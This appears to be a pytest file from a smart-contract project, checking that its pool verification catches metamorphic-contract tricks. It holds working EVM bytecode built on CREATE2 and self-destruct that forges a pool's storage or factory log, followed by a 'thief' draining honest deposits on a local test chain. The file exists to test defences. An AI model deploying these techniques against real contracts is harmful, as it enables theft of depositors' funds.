"""An implementation that had other code while a pool was made, and has this version's ever since.

Creation code may have itself destroyed in the transaction that ran it, and leaves its code, which the factory clones,
until that ends (EIP-6780). The same creation code then comes to the same address (CREATE2) and leaves something else,
since it asks who runs it. What the first code wrote into the clone's storage is in no log.
"""

import time
from typing import Any

import pytest
from eth_utils.address import to_checksum_address
from eth_utils.crypto import keccak

from earnest.chain.deployment import deploy_factory, deploy_implementation
from earnest.chain.gateway import Gateway
from earnest.chain.implementations import first_created, is_factory, recognise
from earnest.chain.interface import encode_call
from earnest.chain.rpc import Rpc
from earnest.contracts.tools.anvil import running_anvil
from earnest.contracts.tools.gas import ADA, BOB, Bench, random_weights
from earnest.core.models.sparse_perceptron import SparsePerceptron
from earnest.verification.checks import verify

pytestmark = pytest.mark.loopback

OPS = {
    "stop": 0x00, "add": 0x01, "sub": 0x03, "eq": 0x14, "iszero": 0x15, "shr": 0x1C, "caller": 0x33,
    "calldataload": 0x35, "calldatasize": 0x36,
    "calldatacopy": 0x37, "codecopy": 0x39, "extcodesize": 0x3B, "extcodecopy": 0x3C,
    "timestamp": 0x42, "pop": 0x50, "mload": 0x51, "mstore": 0x52, "sload": 0x54, "sstore": 0x55, "jumpi": 0x57,
    "gas": 0x5A, "log4": 0xA4, "0": 0x5F, "dup1": 0x80, "dup3": 0x82, "dup5": 0x84, "dup7": 0x86, "dup8": 0x87,
    "create": 0xF0, "call": 0xF1, "return": 0xF3, "create2": 0xF5, "staticcall": 0xFA, "revert": 0xFD, "die": 0xFF,
}  # fmt: skip


def assembled(text: str, behind: bytes = b"") -> bytes:
    """Code of these words: operations, `#` and hexadecimal digits to push, `:` a place, `@` its push."""
    code, places, uses = bytearray(), {}, {}
    for word in text.split():
        if word.startswith("#"):
            value = bytes.fromhex(word[1:])
            code += bytes([0x5F + len(value)]) + value
        elif word.startswith(":"):
            places[word[1:]] = len(code)
            code.append(0x5B)
        elif word.startswith("@"):
            uses[len(code) + 1] = word[1:]
            code += b"\x61\0\0"
        else:
            code.append(OPS[word])
    places["behind"] = len(code)
    for where, name in uses.items():
        code[where : where + 2] = places[name].to_bytes(2, "big")
    return bytes(code) + behind


#: Asks who runs it for two addresses: of creation code that it runs first, unless it is 0, and of code that it leaves.
ASKING = assembled(
    "#40 0 0 0 caller gas staticcall pop 0 mload dup1 iszero @skip jumpi dup1 extcodesize dup1 0 #40 dup5 extcodecopy "
    "#40 0 create pop :skip pop #20 mload dup1 extcodesize dup1 0 0 dup5 extcodecopy 0 return"
)
SIZE = f"#{len(ASKING):04x}"
#: Answers with slots 0 and 1. Asked with calldata it runs `ASKING`; then, unless word 0 is 0, calls that with what is
#: behind it, and at last what it has made, with one byte.
MAKER = assembled(
    "calldatasize @go jumpi 0 sload 0 mstore #01 sload #20 mstore #40 0 return :go "
    f"{SIZE} @behind 0 codecopy 0 {SIZE} 0 0 create2 dup1 iszero @bad jumpi 0 calldataload dup1 iszero @end jumpi "
    "#20 calldatasize sub dup1 #20 0 calldatacopy 0 0 dup3 0 0 dup7 gas call iszero @bad jumpi "
    "0 0 #01 0 0 dup8 gas call iszero @bad jumpi :end stop :bad 0 0 revert",
    ASKING,
)


def leaving(code: bytes) -> bytes:
    """Creation code that leaves this."""
    return assembled(f"#{len(code):04x} dup1 @behind 0 codecopy 0 return", code)


class Thief:
    def __init__(self, url: str) -> None:
        self.rpc, self.gateway = Rpc(url, 60), Gateway(url)

    def send(self, to: str | None, data: bytes) -> Any:
        call = {"from": BOB.address, "data": "0x" + data.hex(), "gas": hex(2**24)} | ({"to": to} if to else {})
        sent = self.rpc.request("eth_sendTransaction", call)
        receipt: Any = None
        while receipt is None:
            receipt = self.rpc.request("eth_getTransactionReceipt", sent)
            time.sleep(0.01)
        assert int(str(receipt["status"]), 16) == 1
        return receipt

    def left(self, code: bytes) -> str:
        return str(self.send(None, leaving(code))["contractAddress"])

    def answers(self, maker: str, *addresses: str) -> None:
        """What its maker answers from now on: one owner's write, which is left out."""
        for slot, address in enumerate(addresses):
            self.rpc.request("anvil_setStorageAt", maker, "0x" + f"{slot:064x}", "0x" + address[2:].rjust(64, "0"))


def word(number: int) -> bytes:
    return number.to_bytes(32, "big")


def slots(thief: Thief, pool: str) -> tuple[int, str]:
    """Of a new pool: where its totals are, and where the thief's credit is."""
    totals = next(
        slot for slot in range(9) if int(str(thief.rpc.request("eth_getStorageAt", pool, hex(slot), "latest")), 16)
    )
    return totals, keccak(bytes(12) + bytes.fromhex(BOB.address[2:]) + word(totals + 1)).hex()


def robbed(thief: Thief, pool: str, url: str, honest: Bench) -> list[str]:
    """What a verification finds wrong with the pool; then three honest deposits come, which are gone by one call."""
    results = list(verify(pool, url, None, None, 0))
    trusting = Bench(thief.gateway, pool, honest.twin.restarted(), 0)
    for number in range(3):
        trusting.contribute(ADA, [number], agrees=True)
    before = thief.gateway.balance(pool)
    thief.send(pool, encode_call("IPool", "withdraw"))
    assert (before, thief.gateway.balance(pool)) == (3 * honest.value, 0)
    return [result.name for result in results if result.ok is False]


def test_a_pool_that_other_code_has_set_up_is_not_called_right():
    with running_anvil() as url:
        gateway, thief = Gateway(url), Thief(url)
        honest = Bench.deploy(gateway, random_weights())
        worth = 3 * honest.value
        totals, credit = slots(thief, honest.pool)
        model = SparsePerceptron.from_weights(random_weights())
        evil = assembled(
            "#01 calldatasize eq @die jumpi 0 calldataload #e0 shr #8129fc1c eq @init jumpi "
            f"#{len(model.pack_parameters()):04x} 0 mstore #20 0 return "
            f":init timestamp #{totals:02x} sstore #{worth:032x} #{credit} sstore stop :die caller die"
        )
        maker = thief.left(MAKER)
        place = keccak(b"\xff" + bytes.fromhex(maker[2:]) + bytes(32) + keccak(ASKING))[12:]
        where, moves = "0x" + place.hex(), first_created("0x" + place.hex())

        # this version's code, with the addresses that it would have there
        real = deploy_implementation(gateway, ADA)
        real_moves = first_created(real)
        implementation = gateway.code(real).replace(real_moves, moves)
        mover = leaving(gateway.code("0x" + real_moves.hex()).replace(real_moves, moves))

        # one transaction: other code, a pool of it, and it is gone
        thief.answers(maker, "0x" + "0" * 40, thief.left(evil))
        factory = deploy_factory(gateway, ADA)
        (chunk,) = model.initial_chunks()
        rules = gateway.code(honest.pool)[45 + 52 : 45 + 91]
        create = encode_call(
            "IPoolFactory",
            "createPool",
            (where, b"\1" * 32, keccak(chunk), rules, model.pack_parameters(), "0x" + "0" * 40),
            [],
            chunk,
        )
        made = thief.send(maker, word(int(factory, 16)) + create)
        announced = next(log for log in made["logs"] if len(log["topics"]) == 4)
        pool = to_checksum_address("0x" + announced["topics"][1][-40:])
        assert gateway.code(where) == b""

        # and this version's code in its place
        thief.answers(maker, thief.left(mover), thief.left(implementation))
        thief.send(maker, word(0))
        assert recognise(where, gateway.code) is not None
        assert robbed(thief, pool, url, honest) != []


def test_a_pool_that_no_factory_made_is_not_called_right():
    """The same with the factory's code: what says that it made the pool has that code later only."""
    with running_anvil() as url:
        gateway, thief = Gateway(url), Thief(url)
        honest = Bench.deploy(gateway, random_weights())
        totals, credit = slots(thief, honest.pool)
        named = "0x" + honest.pool[2:].lower().rjust(64, "0")
        query = {"fromBlock": "0x0", "toBlock": "latest", "topics": [None, named]}
        (told,) = thief.rpc.request("eth_getLogs", query)
        said, _, implementation, owner = (topic[2:] for topic in told["topics"])
        clone = gateway.code(honest.pool)
        # the pool's own creation code writes what it likes
        creation = assembled(
            f"timestamp #{totals:02x} sstore #{3 * honest.value:032x} #{credit} sstore "
            f"#{len(clone):04x} dup1 @behind 0 codecopy 0 return",
            clone,
        )
        evil = assembled(
            "#01 calldatasize eq @die jumpi #20 calldatasize sub #20 0 calldatacopy 0 calldataload 0 0 create "
            f"#{owner} #{implementation} dup3 #{said} 0 calldataload #20 add calldatasize sub 0 calldataload log4 stop "
            ":die caller die"
        )
        maker = thief.left(MAKER)
        where = "0x" + keccak(b"\xff" + bytes.fromhex(maker[2:]) + bytes(32) + keccak(ASKING))[12:].hex()
        thief.answers(maker, "0x" + "0" * 40, thief.left(evil))
        data = bytes.fromhex(told["data"][2:])
        made = thief.send(maker, word(int(where, 16)) + word(len(creation)) + creation + data)
        pool = to_checksum_address("0x" + made["logs"][0]["topics"][1][-40:])
        thief.answers(maker, "0x" + "0" * 40, thief.left(gateway.code(told["address"])))
        thief.send(maker, word(0))
        assert is_factory(gateway.code(where))
        assert robbed(thief, pool, url, honest) != []
